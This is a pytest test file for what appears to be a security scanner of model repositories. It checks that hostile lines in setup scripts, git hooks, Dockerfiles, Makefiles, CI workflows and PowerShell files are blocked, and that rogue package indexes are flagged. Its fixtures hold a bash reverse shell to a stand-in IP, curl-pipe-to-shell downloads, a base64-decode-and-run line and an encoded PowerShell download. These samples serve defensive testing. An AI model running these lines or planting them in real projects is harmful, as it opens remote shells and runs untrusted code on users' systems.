"""Lines for a shell beside a model: hooks, builds, installers."""

import pytest

from tests.builders.models import assert_blocked, blocking, weighed
from weighbridge.policy.verdict import EvalOutcome

OPENED = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
HOSTILE = {
    "a script": ("setup.sh", f"#!/bin/sh\n{OPENED}\n"),
    "without a first line": ("scripts/setup.sh", f"{OPENED}\n"),
    "a hook of git": (".git/hooks/post-checkout", "#!/bin/sh\ncurl http://h.invalid/x | sh\n"),
    "an image": ("Dockerfile", "FROM python:3.11\nRUN curl http://h.invalid/x.sh | sh\n"),
    "by an address of numbers": ("install.sh", "wget -qO- https://192.0.2.1/x | sudo bash\n"),
    "in a shell's argument": ("install.sh", 'bash -c "$(curl -fsSL http://h.invalid/x)"\n'),
    "a build": ("Makefile", "all:\n\techo aGk= | base64 -d | sh\n"),
    "a workflow": (".github/workflows/x.yml", f"on: push\njobs:\n  a:\n    steps:\n    - run: {OPENED}\n"),
    "a project of MLflow": ("MLproject", f"entry_points:\n  main:\n    command: '{OPENED}'\n"),
    "a batch file": ("run.bat", "powershell -nop -enc SQBFAFgAIAAoAE4A\n"),
    "a script of PowerShell": ("run.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://h.invalid')\n"),
}


@pytest.mark.parametrize(("name", "text"), HOSTILE.values(), ids=HOSTILE)
def test_line_that_no_build_needs(name, text):
    """A shell to the outside, what is decoded and run, what is fetched without a lock."""
    assert assert_blocked(weighed(text.encode(), name)).threat.code == "SCRIPT-403"


HONEST = {
    "an image": (
        "Dockerfile",
        "FROM python\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\n"
        "RUN curl -sSL https://install.python-poetry.org | python3 -\nRUN sed -i s/a/b/ x && tar -xf y.tgz\n"
        "RUN pip install torch --index-url https://download.pytorch.org/whl/cpu\n",
    ),
    "training": ("train.sh", "#!/bin/bash\nset -e\nwget -c https://h.invalid/d.tgz -O - | tar xz\npython train.py\n"),
    "what a comment warns of": ("x.sh", f"#!/bin/sh\n# never: {OPENED}\necho\n"),
    "prose": ("README.md", f"Attackers write `{OPENED}`.\n"),
    "a build": ("Makefile", "clean:\n\trm -rf build/ dist/\n"),
}


@pytest.mark.parametrize(("name", "text"), HONEST.values(), ids=HONEST)
def test_honest_lines_pass(name, text):
    """Downloads under a lock, tools with options of the same letters."""
    verdict = weighed(text.encode(), name)
    assert verdict.eval_outcome is EvalOutcome.ALLOWED, blocking(verdict)


INDEXES = {
    "tight": ("requirements.txt", "-ihttps://h.invalid/simple\nx\n"),
    "shortened": ("requirements.txt", "--extra-index https://h.invalid/simple\n"),
    "over two lines": ("requirements.txt", "--extra-index-url \\\n  https://h.invalid/simple\n"),
    "an image": ("Dockerfile", "FROM python\nRUN pip install \\\n -i https://h.invalid/simple x\n"),
    "an image's variable": ("docker/cpu.Dockerfile", "FROM python\nENV PIP_EXTRA_INDEX_URL=https://h.invalid/simple\n"),
    "a script": ("install.sh", "#!/bin/sh\nuv pip install --extra-index-url https://h.invalid/simple x\n"),
    "settings of conda": (".condarc", "channels:\n- https://h.invalid/conda\n"),
    "locked": ("Pipfile.lock", '{"_meta": {"sources": [{"url": "https://h.invalid/simple"}]}}'),
}


@pytest.mark.parametrize(("name", "text"), INDEXES.values(), ids=INDEXES)
def test_index_of_its_own(name, text):
    """In every form that an installer reads."""
    assert assert_blocked(weighed(text.encode(), name)).threat.code in ("REQ-401", "REQ-402")


def test_place_of_an_index():
    """The letter at which its address stands, also behind a variable and a line that goes on."""
    data = b"FROM x\nRUN true \\\n && pip install -i https://h.invalid/simple x\n"
    assert data[assert_blocked(weighed(data, "Dockerfile")).location.offset :].startswith(b"https://h.invalid/simple")
